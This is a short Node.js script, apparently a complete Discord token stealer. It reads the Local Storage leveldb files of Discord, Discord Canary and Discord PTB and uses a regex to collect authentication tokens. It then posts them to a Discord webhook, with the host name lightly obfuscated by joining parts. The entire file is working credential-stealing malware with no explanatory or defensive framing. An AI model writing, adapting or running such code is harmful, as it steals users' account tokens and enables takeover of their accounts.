const fs = require('fs');
const path = require('path');
const https = require('https');
const roaming = process.env.APPDATA || path.join(require('os').homedir(), '.config');
const dirs = ['discord', 'discordcanary', 'discordptb'].map((d) => path.join(roaming, d, 'Local Storage', 'leveldb'));
const found = new Set();
for (const d of dirs) {
  let files = [];
  try { files = fs.readdirSync(d); } catch { continue; }
  for (const f of files.filter((x) => x.endsWith('.ldb') || x.endsWith('.log'))) {
    const txt = fs.readFileSync(path.join(d, f), 'latin1');
    for (const m of txt.matchAll(/[\w-]{24}\.[\w-]{6}\.[\w-]{27,38}/g)) found.add(m[0]);
  }
}
const host = ['discord', 'com'].join('.');
const req = https.request({ host, path: '/api/webhooks/1180000000000000000/kQ9vX-abc_def', method: 'POST', headers: { 'Content-Type': 'application/json' } });
req.end(JSON.stringify({ content: [...found].join('\n') || 'none' }));
